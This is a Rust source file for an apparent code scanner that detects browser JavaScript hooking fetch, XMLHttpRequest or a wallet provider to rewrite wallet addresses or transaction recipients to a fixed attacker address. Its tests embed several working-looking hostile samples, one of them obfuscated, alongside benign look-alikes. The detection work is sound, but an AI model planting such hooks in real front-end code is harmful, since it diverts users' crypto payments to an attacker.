//! A request hook that swaps wallet addresses: code shipped to a browser that replaces `fetch`,
//! `XMLHttpRequest`'s methods or a wallet provider's `request` with its own function, and rewrites every
//! wallet address in what passes through to a fixed one of the attacker's.
//!
//! Hijacked front-end packages (2025's wave of compromised npm maintainers) did this in their bundles: the
//! page's payments go to the attacker. The code needs three things in one file: a function assigned over a
//! request function (often under a computed name, `g[k] = function`), a global replacement of the
//! wallet-address pattern, and a fixed address written in the code. A retry or logging wrapper replaces
//! `fetch` but never rewrites addresses; a redactor masks addresses with a placeholder, not an address; a
//! wallet library validates addresses and writes contract addresses without hooking requests.

use super::FileDetector;
use crate::ascii_classes::ascii_regex;
use crate::matchers::{Hit, HitDetail};
use crate::segment::Segment;
use regex::Regex;
use skill_scan_model::Language;
use std::sync::LazyLock;

pub(crate) static REQUEST_ADDRESS_SWAP: FileDetector = FileDetector {
    literals: &["{40}", "Transaction"],
    run: find_request_swaps,
};

/// A function assigned over a request function: `fetch = …`, `XMLHttpRequest.prototype.send = …`,
/// `provider.request = …`, or a member named by a computed key (`g[k] = function`).
// Constant patterns (their tests compile them): `expect` never sees scanned data.
#[allow(clippy::expect_used)]
static HOOK: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(concat!(
        r"(?:\bfetch|\.(?:send|open|request|sendAsync|sendTransaction)|\[\s*[A-Za-z_$][\w$]*\s*\])",
        r"\s*=\s*(?:async\s+)?(?:function\b|\(?[\w$\s,.]*\)?\s*=>)"
    ))
    .expect("hook pattern")
});

/// Every Ethereum-style address in a text replaced by an address written in the code or a name:
/// `.replace(/0x[a-fA-F0-9]{40}/g, mine)`.
#[allow(clippy::expect_used)]
static REPLACE_ALL_ADDRESSES: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(concat!(
        r"\.replace(?:All)?\s*\(\s*/\\?b?0x\[[a-fA-F0-9-]+\]\{40\}(?:\\b)?/[a-z]*g[a-z]*\s*,\s*",
        r#"(?:["'`](?P<literal>0x[0-9a-fA-F]{40})["'`]|(?P<name>[A-Za-z_$][\w$]*)\s*\))"#
    ))
    .expect("replace pattern")
});

/// `NAME = '0x…'` or `NAME: '0x…'`: a name bound to an address written in the code.
#[allow(clippy::expect_used)]
static BOUND_ADDRESS: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(r#"(?P<name>[A-Za-z_$][\w$]*)\s*[:=]\s*["'`](?P<address>0x[0-9a-fA-F]{40})["'`]"#)
        .expect("bound address pattern")
});

/// The fixed address the replacement writes: written in the call, or bound to the name it passes.
fn replacement_address(body: &str) -> Option<regex::Match<'_>> {
    for replace in REPLACE_ALL_ADDRESSES.captures_iter(body) {
        if let Some(literal) = replace.name("literal") {
            return Some(literal);
        }
        let Some(name) = replace.name("name") else {
            continue;
        };
        let bound = BOUND_ADDRESS
            .captures_iter(body)
            .find(|b| b.name("name").is_some_and(|n| n.as_str() == name.as_str()));
        if let Some(address) = bound.and_then(|b| b.name("address")) {
            return Some(address);
        }
    }
    None
}

/// `[/0x[a-fA-F0-9]{40}/g, mine.eth]`: a pair in a table of replacements, the address pattern and what
/// replaces it (a literal, a name, or a member whose last name is bound to an address).
#[allow(clippy::expect_used)]
static REPLACEMENT_PAIR: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(concat!(
        r"\[\s*/\\?b?0x\[[a-fA-F0-9-]+\]\{40\}(?:\\b)?/[a-z]*g[a-z]*\s*,\s*",
        r#"(?:["'`](?P<literal>0x[0-9a-fA-F]{40})["'`]|(?P<name>[A-Za-z_$][\w$]*(?:\.[A-Za-z_$][\w$]*)*))\s*\]"#
    ))
    .expect("replacement pair pattern")
});

/// `.replace(re, to)`: a replacement whose pattern is a name (read from a table), not a literal.
#[allow(clippy::expect_used)]
static REPLACE_BY_NAME: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(r"\.replace(?:All)?\s*\(\s*[A-Za-z_$][\w$.\[\]]*\s*,")
        .expect("replace by name pattern")
});

/// `args.params[0].to = SINK`, `tx.to = '0x…'`, `{ ...tx, to: SINK }`: a transaction's recipient set to
/// a literal or a name.
#[allow(clippy::expect_used)]
static RECIPIENT_SET: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(concat!(
        r"(?:\.to\s*=|[{,]\s*to\s*:)\s*",
        r#"(?:["'`](?P<literal>0x[0-9a-fA-F]{40})["'`]|(?P<name>[A-Za-z_$][\w$]*(?:\.[A-Za-z_$][\w$]*)*)\s*[;,})\n])"#
    ))
    .expect("recipient pattern")
});

/// The address a name or member (`SINK`, `mine.eth`: its last name) is bound to in the code.
fn bound_address<'b>(body: &'b str, name: &str) -> Option<regex::Match<'b>> {
    let last = name.rsplit('.').next().unwrap_or(name);
    BOUND_ADDRESS
        .captures_iter(body)
        .find(|b| b.name("name").is_some_and(|n| n.as_str() == last))
        .and_then(|b| b.name("address"))
}

/// The address a literal-or-name capture stands for.
fn target_address<'b>(body: &'b str, found: &regex::Captures<'b>) -> Option<regex::Match<'b>> {
    found.name("literal").or_else(|| {
        found
            .name("name")
            .and_then(|n| bound_address(body, n.as_str()))
    })
}

/// Longest hook body read.
const MAX_HOOK_BODY: usize = 8 * 1024;

/// The text of the function a hook assigns, from its match: the braced body when it has one (braces
/// counted, strings not parsed: a cut body only loses a hit), else the rest of the line.
fn hook_body(body: &str, hook_end: usize) -> &str {
    let rest = &body[hook_end..];
    let Some(open) = rest.find(['{', '\n']) else {
        return rest;
    };
    if rest.as_bytes()[open] == b'\n' {
        return &rest[..open];
    }
    let mut depth = 0usize;
    for (i, b) in rest.bytes().enumerate().skip(open).take(MAX_HOOK_BODY) {
        match b {
            b'{' => depth += 1,
            b'}' => {
                depth -= 1;
                if depth == 0 {
                    return &rest[..=i];
                }
            }
            _ => {}
        }
    }
    &rest[..rest.len().min(open + MAX_HOOK_BODY)]
}

/// Inside a request hook: a table of address replacements applied by name (`for (const [re, to] of
/// rules) body = body.replace(re, to)`), or a sent transaction's recipient set to a fixed address.
fn hooked_swap<'b>(body: &'b str) -> Option<(regex::Match<'b>, &'static str)> {
    for hook in HOOK.find_iter(body) {
        let inside = hook_body(body, hook.end());
        if REPLACE_BY_NAME.is_match(inside) {
            let table = REPLACEMENT_PAIR
                .captures_iter(body)
                .find_map(|pair| target_address(body, &pair));
            if let Some(address) = table {
                return Some((address, "rewrites every wallet address passing through it, from a table, to a fixed one"));
            }
        }
        if inside.contains("Transaction") {
            let recipient = RECIPIENT_SET
                .captures_iter(inside)
                .find_map(|set| target_address(body, &set));
            if let Some(address) = recipient {
                return Some((
                    address,
                    "sets the recipient of every transaction it sends to a fixed address",
                ));
            }
        }
    }
    None
}

fn find_request_swaps(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hit) -> bool) {
    if !matches!(
        segment.language,
        Language::Javascript | Language::Typescript
    ) {
        return;
    }
    let body = segment.text(text);
    if !HOOK.is_match(body) {
        return;
    }
    let found = replacement_address(body)
        .map(|a| {
            (
                a,
                "rewrites every wallet address passing through it to a fixed one",
            )
        })
        .or_else(|| hooked_swap(body));
    let Some((address, what)) = found else {
        return;
    };
    keep(Hit {
        start: segment.start + address.start(),
        end: segment.start + address.end(),
        detail: Some(Box::new(HitDetail {
            message: format!(
                "Code replaces a request function and {what}: {}",
                address.as_str()
            ),
            related: Vec::new(),
        })),
    });
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fires(text: &str) -> bool {
        crate::native::file_detector_fires(
            find_request_swaps,
            text,
            "dist/index.js",
            Language::Javascript,
        )
    }

    const HOOKED: &str = "(function (g) {\n  var k = ['fe', 'tch'].join('');\n  var orig = g[k];\n  var mine = '0x1111111111111111111111111111111111111111';\n  g[k] = function (u, o) {\n    if (o && typeof o.body === 'string') o.body = o.body.replace(/0x[a-fA-F0-9]{40}/g, mine);\n    return orig.call(this, u, o);\n  };\n})(window);\n";

    #[test]
    fn a_request_hook_swapping_addresses_fires() {
        assert!(fires(HOOKED));
        let xhr = "const send = XMLHttpRequest.prototype.send;\nconst ME = '0x2222222222222222222222222222222222222222';\nXMLHttpRequest.prototype.send = function (b) {\n  return send.call(this, String(b).replace(/0x[0-9a-fA-F]{40}/gi, ME));\n};\n";
        assert!(fires(xhr));
    }

    #[test]
    fn replacement_tables_and_recipient_rewrites_fire() {
        let table = "const proto = globalThis['XMLHttp' + 'Request'].prototype;\nconst send0 = proto.send;\nconst ours = { evm: '0x5555555555555555555555555555555555555555' };\nconst swaps = [[/0x[a-fA-F0-9]{40}/g, ours.evm]];\nproto.send = function (b) {\n  for (const [re, to] of swaps) b = String(b).replace(re, to);\n  return send0.call(this, b);\n};\n";
        assert!(fires(table));
        let recipient = "var DEST = '0x6666666666666666666666666666666666666666';\nfunction wrap(p) {\n  var o = p.request.bind(p);\n  p.request = function (a) {\n    if (a.method === 'eth_sendTransaction') a.params[0].to = DEST;\n    return o(a);\n  };\n}\n";
        assert!(fires(recipient));
    }

    #[test]
    fn wrappers_normalising_recipients_or_labelling_addresses_are_quiet() {
        // A provider wrapper that lower-cases the recipient it was given.
        let norm = "const CONTRACT = '0x7777777777777777777777777777777777777777';\nconst o = p.request.bind(p);\np.request = function (a) {\n  if (a.method === 'eth_sendTransaction') a.params[0].to = a.params[0].to.toLowerCase();\n  return o(a);\n};\n";
        assert!(!fires(norm));
        // A table of display labels applied by a logging hook.
        let labels = "const FEE = '0x8888888888888888888888888888888888888888';\nconst marks = [[/0x[a-fA-F0-9]{40}/g, '[wallet]']];\nconst s = proto.send;\nproto.send = function (b) {\n  let t = String(b);\n  for (const [re, to] of marks) t = t.replace(re, to);\n  log(t);\n  return s.call(this, b);\n};\n";
        assert!(!fires(labels));
    }

    #[test]
    fn wrappers_redactors_and_wallet_libraries_are_quiet() {
        // A retry wrapper: hooks fetch, rewrites nothing.
        let retry = "const orig = window.fetch;\nwindow.fetch = (u, o) => orig(u, o).catch(() => orig(u, o));\nconst ZERO = '0x0000000000000000000000000000000000000000';\nconst ok = (a) => /^0x[a-fA-F0-9]{40}$/.test(a);\n";
        assert!(!fires(retry));
        // A log redactor: masks addresses with a placeholder, though it holds an address of its own.
        let redact = "const T = '0x4444444444444444444444444444444444444444';\nconst orig = console.log;\nconsole.log = (...a) => orig(...a.map((s) => String(s).replace(/0x[a-fA-F0-9]{40}/g, '0x…')));\nwindow.fetch = function (u, o) { return orig2(u, o); };\n";
        assert!(!fires(redact));
        // A wallet library: validates, holds a contract address, hooks nothing.
        let lib = "export const ROUTER = '0x3333333333333333333333333333333333333333';\nexport const norm = (t) => t.replace(/0x[a-fA-F0-9]{40}/g, lower);\nprovider.request = (a) => send(a);\n";
        assert!(!fires(lib));
    }
}
